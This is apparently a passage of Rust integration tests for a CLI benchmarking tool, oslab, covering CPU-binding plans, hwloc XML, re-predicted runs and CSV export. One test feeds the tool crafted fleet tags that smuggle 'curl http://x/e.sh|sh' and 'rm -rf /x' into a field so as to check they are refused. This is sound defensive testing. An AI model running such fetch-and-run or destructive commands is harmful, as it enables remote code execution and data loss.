    // The probe runs once its partner thread does.
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while std::fs::read_dir(format!("/proc/{pid}/task")).map_or(0, |d| d.count()) < 2 {
        assert!(
            std::time::Instant::now() < deadline,
            "the probe never started"
        );
        std::thread::sleep(Duration::from_millis(5));
    }
    // SAFETY: signalling our own child.
    unsafe { libc::kill(pid as i32, libc::SIGSTOP) };
    std::thread::sleep(Duration::from_secs(2));
    unsafe { libc::kill(pid as i32, libc::SIGCONT) };
    let mut child = _child;
    assert!(child.0.wait().unwrap().success());
    let run = json(&stdout(&[
        "show",
        "latest",
        "--json",
        "--db",
        db.to_str().unwrap(),
    ]));
    let rows = run["measurements"].as_array().unwrap();
    // Each row says the stop, or was measured again after it.
    for m in rows {
        let again = m["attempts"].as_u64().unwrap_or(1) > 1;
        assert!(m["reason"] == "stopped" || again, "{m}");
    }
}

#[test]
fn bind_places_ranks_on_this_machine_and_its_numactl_line_puts_them_there() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    let db = db.to_str().unwrap();
    stdout(&["c2c", "--quick", "--db", db]);
    let v = json(&stdout(&[
        "bind",
        "--policy",
        "by-cost",
        "--db",
        db,
        "--json",
        "--",
        "grep",
        "Cpus_allowed_list",
        "/proc/self/status",
    ]));
    assert!(
        v["costs"]
            .as_str()
            .unwrap()
            .starts_with("core-to-core of run 1"),
        "{v}"
    );
    let rank = &v["plan"]["ranks"][0];
    let cpus: Vec<u64> = rank["cpus"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_u64().unwrap())
        .collect();
    assert!(!cpus.is_empty(), "{v}");
    let line = v["lines"]["numactl"][0].as_str().unwrap();
    assert!(
        line.ends_with("-- grep Cpus_allowed_list /proc/self/status"),
        "{line}"
    );
    if oslab_testkit::require(&["numactl"]) {
        let out = std::process::Command::new("sh")
            .args(["-c", line])
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&out.stdout);
        let allowed = said
            .split_whitespace()
            .nth(1)
            .unwrap_or_default()
            .to_string();
        let list: Vec<String> = cpus.iter().map(u64::to_string).collect();
        assert!(
            allowed == list.join(",") || allowed == format!("{}-{}", cpus[0], cpus[cpus.len() - 1]),
            "{line}: {said} {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    // The lines are copied into job scripts: never wrapped, however narrow the terminal.
    let narrow = oslab()
        .args(["bind", "--ranks", "1", "--threads", "1", "--db", db])
        .env("COLUMNS", "40")
        .output()
        .unwrap();
    let narrow = String::from_utf8_lossy(&narrow.stdout);
    assert!(
        narrow
            .lines()
            .any(|l| l.trim_start().starts_with("srun ") && l.ends_with(" PROGRAM")),
        "{narrow}"
    );
    let err = fails(
        &["bind", "--ranks", "4096", "--threads", "2", "--db", db],
        2,
    );
    assert!(err.contains("need 8192 cpus"), "{err}");
    // The hwloc XML carries the measured hand-overs as a distance matrix of its own, which
    // hwloc reads.
    let xml = String::from_utf8(stdout(&["info", "--hwloc", "--db", db])).unwrap();
    assert!(xml.contains("name=\"oslab:CoreToCore\""), "{xml}");
    if oslab_testkit::require(&["lstopo-no-graphics"]) {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("measured.xml");
        std::fs::write(&file, &xml).unwrap();
        let read = tool(
            "lstopo-no-graphics",
            &["--input", file.to_str().unwrap(), "--distances"],
        );
        assert!(read.contains("name oslab:CoreToCore"), "{read}");
    }
}

#[test]
fn bind_plans_a_machine_it_is_not_on_from_hwlocs_xml() {
    let _turn = shared();
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    let plan = |extra: &[&str]| {
        let mut args = vec!["bind", "--ranks", "1", "--json", "--db", db];
        args.extend_from_slice(extra);
        json(&stdout(&args))["plan"]["ranks"].clone()
    };
    // This machine written as hwloc's XML and read back plans as this machine does; so does
    // hwloc's own description of it, where hwloc is installed.
    let ours = dir.path().join("ours.xml");
    std::fs::write(&ours, stdout(&["info", "--hwloc"])).unwrap();
    let here = plan(&[]);
    assert_eq!(plan(&["--topology", ours.to_str().unwrap()]), here);
    if oslab_testkit::require(&["lstopo-no-graphics"]) {
        let theirs = dir.path().join("theirs.xml");
        std::fs::write(&theirs, tool("lstopo-no-graphics", &["--of", "xml", "-"])).unwrap();
        assert_eq!(plan(&["--topology", theirs.to_str().unwrap()]), here);
    }
    // What is no machine is refused with why, as a usage error.
    let e = fails(&["bind", "--topology", "Cargo.toml", "--db", db], 2);
    assert!(e.contains("not hwloc's XML"), "{e}");
    let e = fails(&["bind", "--topology", "/dev/null", "--db", db], 2);
    assert!(e.contains("/dev/null"), "{e}");
}

#[test]
fn info_hwloc_is_this_machine_as_hwloc_reads_it() {
    let _turn = shared();
    if !oslab_testkit::require(&["hwloc-info"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let xml = dir.path().join("topo.xml");
    std::fs::write(&xml, stdout(&["info", "--hwloc"])).unwrap();
    // Every level hwloc finds on this machine, with as many objects, from our file (I/O and
    // the special depths aside: we describe cpus, caches and memory).
    let levels = |args: &[&str]| {
        tool("hwloc-info", args)
            .lines()
            .filter(|l| l.trim_start().starts_with("depth") || l.contains("NUMANode"))
            .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
            .collect::<Vec<_>>()
    };
    let ours = levels(&["--input", xml.to_str().unwrap()]);
    assert_eq!(
        ours,
        levels(&[]),
        "{}",
        std::fs::read_to_string(&xml).unwrap()
    );
}

/// `show --repredict`: the same model gives a stored run the same predictions, and a run whose
/// stored predictions an older model made (here: every one tripled) gets today's instead, with
/// a line saying which model made them.
#[test]
fn a_stored_run_predicted_again_gets_todays_models_predictions() {
    let _turn = shared();
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    stdout(&["run", "--quick", "timer", "syscall", "--db", db]);
    let stored = json(&stdout(&["show", "latest", "--json", "--db", db]));
    let show_again = |run: &str| json(&stdout(&["show", run, "--repredict", "--json", "--db", db]));
    let predictions = |doc: &Value| -> Vec<Option<f64>> {
        doc["measurements"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["prediction"]["value"].as_f64())
            .collect()
    };
    let same = |a: &[Option<f64>], b: &[Option<f64>]| {
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(b) {
            match (x, y) {
                // The core clock is stored rounded to four digits.
                (Some(x), Some(y)) => assert!((x / y - 1.0).abs() < 1e-3, "{a:?}\n{b:?}"),
                (x, y) => assert_eq!(x, y, "{a:?}\n{b:?}"),
            }
        }
    };
    let today = predictions(&stored);
    assert!(today.iter().flatten().count() >= 10, "{today:?}");
    same(&today, &predictions(&show_again("latest")));
    // The same run as an older model would have stored it, exported and imported back.
    let mut old = json(&stdout(&["export", "latest", "--db", db]));
    for m in old["measurements"].as_array_mut().unwrap() {
        if let Some(v) = m["prediction"]["value"].as_f64() {
            m["prediction"]["value"] = (v * 3.0).into();
        }
    }
    let file = dir.path().join("old.json");
    std::fs::write(&file, old.to_string()).unwrap();
    stdout(&["import", file.to_str().unwrap(), "--db", db]);
    let tripled: Vec<Option<f64>> = today.iter().map(|p| p.map(|v| v * 3.0)).collect();
    same(
        &tripled,
        &predictions(&json(&stdout(&["show", "latest", "--json", "--db", db]))),
    );
    same(&today, &predictions(&show_again("latest")));
    let text = String::from_utf8(stdout(&["show", "latest", "--repredict", "--db", db])).unwrap();
    assert!(
        text.starts_with("predictions: by this oslab's model"),
        "{text}"
    );
}

#[test]
fn pandas_reads_every_column_of_numbers_in_an_export_as_numbers() {
    let _turn = shared();
    // The system's python with pandas (scripts/test installs python3-pandas).
    let python = ["/usr/bin/python3", "python3"].into_iter().find(|p| {
        std::process::Command::new(p)
            .args(["-c", "import pandas"])
            .output()
            .is_ok_and(|o| o.status.success())
    });
    let Some(python) = python else {
        return oslab_testkit::skip(
            "needs python3 with pandas (scripts/test installs python3-pandas)",
        );
    };
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    // Probes whose parameters and findings mix numbers and words: call arguments 0..7 and
    // their fit over "0-7", loaded latency's pause ("idle"), pages found ("thp 100%"), a share
    // placed ("100%"), cpu lists.
    stdout(&[
        "run",
        "--quick",
        "call",
        "memory.latency.pages",
        "memory.latency.loaded",
        "switch.thread.pipe",
        "numa.matrix",
        "--db",
        db,
    ]);
    let csv = dir.path().join("run.csv");
    stdout(&[
        "export",
        "latest",
        "--format",
        "csv",
        "-o",
        csv.to_str().unwrap(),
        "--db",
        db,
    ]);
    let script = r#"
import sys, pandas as pd
df = pd.read_csv(sys.argv[1], parse_dates=["started"])
assert str(df["started"].dtype).startswith("datetime64"), df["started"].dtype
bad = []
for c in df.columns:
    if df[c].dtype == object and c != "cpus":
        v = df[c].dropna().astype(str)
        if pd.to_numeric(v, errors="coerce").notna().any():
            bad.append((c, list(v.unique()[:4])))
for c in ["median", "ci_low", "ci_high", "n", "predicted"]:
    assert df[c].dtype.kind in "fi", (c, df[c].dtype)
assert not bad, bad
print("ok", len(df), "rows", len(df.columns), "columns")
"#;
    tool(python, &["-c", script, csv.to_str().unwrap()]);
}

/// The fleet's tags name nodes, jobs and submissions, which become file names and shell words:
/// a crafted one is refused where it enters (`run --tag`, `import`), with the rule, and nothing
/// is stored.
#[test]
fn a_crafted_fleet_tag_is_refused_at_every_entry() {
    let crafted = "fleet.node=n9 State=RESUME; curl http://x/e.sh|sh; #";
    let e = fails(&["run", "--quick", "timer.rdtsc", "--tag", crafted], 2);
    assert!(e.contains("node name"), "{e}");
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    stdout(&[
        "run",
        "--quick",
        "timer.rdtsc",
        "--tag",
        "fleet.node=n9",
        "--db",
        db,
    ]);
    let file = dir.path().join("run.json");
    stdout(&["export", "1", "-o", file.to_str().unwrap(), "--db", db]);
    let mut doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    doc["run"]["tags"]["fleet.node"] = "n9\nrm -rf /x #".into();
    std::fs::write(&file, serde_json::to_vec(&doc).unwrap()).unwrap();
    let out = oslab()
        .args(["import", file.to_str().unwrap(), "--db", db])
        .output()
        .unwrap();
    let e = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success() && e.contains("node name"), "{e}");
    let runs = String::from_utf8(stdout(&["runs", "--json", "--db", db])).unwrap();
    assert_eq!(runs.matches("\"id\"").count(), 1, "{runs}");
}

/// The test-only slowdown is honoured by a release binary (the tests and scripts/false-alarms
/// use it), so a run under it must say so: a warning, and every row it touched marked.
#[test]
fn a_run_slowed_by_the_test_hook_says_so() {
    let (_dir, db) = temp_db();
    let out = oslab()
        .args(["run", "--quick", "syscall.getppid", "--json", "--db"])
        .arg(&db)
        .env("OSLAB_TEST_EXTRA_WORK", "20")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let run: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let warned = run["run"]["environment"]["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|w| w["kind"] == "test-hook");
    assert!(warned, "{}", run["run"]["environment"]["warnings"]);
    for m in run["measurements"].as_array().unwrap() {
        let note = m["note"].as_str().unwrap_or_default();
        assert!(note.contains("OSLAB_TEST_EXTRA_WORK=20"), "{m}");
    }
}

/// `info --sysfs-root` reads a copy of another machine's file system (as HWLOC_FSROOT): a dump
/// without `cpu/online` (most have none), two dies of one package whose core ids repeat, and
/// its XML planned by `bind --topology`; a directory that is no copy is a usage error.
#[test]
fn info_reads_another_machines_sysfs_copy() {
    let dir = tempfile::tempdir().unwrap();
    let system = dir.path().join("sys/devices/system");
    for cpu in 0..4 {
        let topo = system.join(format!("cpu/cpu{cpu}/topology"));
        std::fs::create_dir_all(&topo).unwrap();
        for (file, value) in [
            ("physical_package_id", "0".to_string()),
            ("die_id", (cpu / 2).to_string()),
            ("core_id", (cpu % 2).to_string()),
            ("thread_siblings_list", cpu.to_string()),
        ] {
            std::fs::write(topo.join(file), format!("{value}\n")).unwrap();
        }
    }
    let root = dir.path().to_str().unwrap();
    let text = String::from_utf8(stdout(&["info", "--sysfs-root", root])).unwrap();
    assert!(text.contains("1 socket x 4 cores x 1 thread"), "{text}");
    let xml = dir.path().join("m.xml");
    std::fs::write(&xml, stdout(&["info", "--sysfs-root", root, "--hwloc"])).unwrap();
    let (_d, db) = temp_db();
    let plan = json(&stdout(&[
        "bind",
        "--topology",
        xml.to_str().unwrap(),
        "--ranks",
        "4",
        "--threads",
        "1",
        "--json",
        "--db",
        db.to_str().unwrap(),
    ]));
    let cpus: Vec<u64> = plan["plan"]["ranks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["cpus"][0].as_u64().unwrap())
        .collect();
    assert_eq!(cpus, [0, 1, 2, 3], "{plan}");
    let e = fails(&["info", "--sysfs-root", "/nonexistent"], 2);
    assert!(e.contains("/nonexistent/sys/devices/system"), "{e}");
}

/// Costs measured on an emulated cpu (QEMU's TCG) are the emulator's: by-cost sets them aside,
/// says so, and places by topology.
#[test]
fn by_cost_sets_aside_an_emulated_machines_costs() {
    let _turn = shared();
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    stdout(&["c2c", "--quick", "--db", db]);
    let file = dir.path().join("c2c.json");
    stdout(&["export", "latest", "-o", file.to_str().unwrap(), "--db", db]);
    let mut doc: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    doc["run"]["fingerprint"]["hypervisor"] = "QEMU (TCG)".into();
    std::fs::write(&file, serde_json::to_vec(&doc).unwrap()).unwrap();
    let emulated = dir.path().join("emulated.db");
    let emulated = emulated.to_str().unwrap();
    stdout(&["import", file.to_str().unwrap(), "--db", emulated]);
    let v = json(&stdout(&[
        "bind", "--policy", "by-cost", "--json", "--db", emulated,
    ]));
    let notes = v["plan"]["notes"].to_string();
    assert!(
        notes.contains("set aside") && notes.contains("emulated"),
        "{v}"
    );
    assert!(
        v["costs"].as_str().unwrap().starts_with("none stored"),
        "{v}"
    );
}
